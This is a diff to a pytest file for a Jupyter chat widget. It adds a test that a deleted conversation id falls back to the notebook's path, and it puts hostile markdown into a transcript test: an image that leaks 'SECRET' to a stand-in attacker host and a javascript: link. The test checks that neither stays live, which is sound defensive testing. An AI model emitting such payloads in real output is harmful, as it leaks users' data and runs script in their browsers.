@@ -12,10 +12,11 @@ from typing import Any
 
 import pytest
 
-from jupyter_resumechat.errors import ConnectionFailed
+from jupyter_resumechat.errors import ConnectionFailed, NotFound
 from jupyter_resumechat.models import Role
 from jupyter_resumechat.widget import ChatPanel
 from jupyter_resumechat.widget.transcript import MIME_TYPE, transcript
+from tests.support.services import unavailable
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -50,8 +51,14 @@ def test_a_string_is_still_a_chat_message(panel: ChatPanel) -> None:
 class OneConversation:
     """A server holding one conversation with one exchange; records what was asked."""
 
-    def __init__(self) -> None:
+    def __init__(self, known: tuple[str, ...] = ("old", "c-1")) -> None:
         self.created: list[str | None] = []
+        self.known = known
+
+    def get_conversation(self, conversation_id: str) -> Any:
+        if conversation_id not in self.known:
+            raise NotFound(f"no conversation {conversation_id!r}")
+        return SimpleNamespace(id=conversation_id)
 
     def create_conversation(self, title: str | None = None, key: str | None = None) -> Any:
         self.created.append(key)
@@ -128,9 +135,33 @@ def test_a_renamed_notebook_finds_the_id_its_saved_output_holds(tmp_path: Path, 
     assert server.created == []  # no conversation made for the new path
 
 
-@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+def test_a_saved_id_that_is_gone_falls_back_to_the_key(tmp_path: Path, monkeypatch: Any) -> None:
+    """Deleted from the side panel, a reset database, a notebook from another server:
+    the saved id answers 404, so the notebook's path keys a chat again."""
+    saved = {
+        "cells": [{"cell_type": "code", "outputs": [{"data": {MIME_TYPE: {"conversation_id": "gone"}}}]}]
+    }
+    (tmp_path / "copied.ipynb").write_text(json.dumps(saved))
+    monkeypatch.setenv("JPY_SESSION_NAME", str(tmp_path / "copied.ipynb"))
+    server = OneConversation()
+    panel = ChatPanel(client=server)  # type: ignore[arg-type]
+    try:
+        assert bundle(panel)[MIME_TYPE]["conversation_id"] == "c-1"
+    finally:
+        panel.close()
+    assert server.created == [str(tmp_path / "copied.ipynb")]
+
+
 def test_python_and_the_browser_write_the_same_transcript() -> None:
-    messages = [{"role": "user", "content": "a < b & c"}, {"role": "assistant", "content": " **yes** \n"}]
+    if shutil.which("node") is None:
+        unavailable("node is not installed")
+    messages = [
+        {
+            "role": "user",
+            "content": "a < b & c ![x](https://evil.example/p?d=SECRET) [c](javascript:alert(1))",
+        },
+        {"role": "assistant", "content": " **yes** \n"},
+    ]
     script = (
         "import { transcript } from './js/transcript.js';"
         f"process.stdout.write(JSON.stringify(transcript('Chat', {json.dumps(messages)})));"
@@ -141,3 +172,4 @@ def test_python_and_the_browser_write_the_same_transcript() -> None:
     written = json.loads(node.stdout)
     shown = [SimpleNamespace(role=Role(m["role"]), content=m["content"]) for m in messages]
     assert (written["markdown"], written["plain"]) == transcript("Chat", shown)  # type: ignore[arg-type]
+    assert "](" not in written["markdown"].replace("&#93;(", "")  # no live link or image
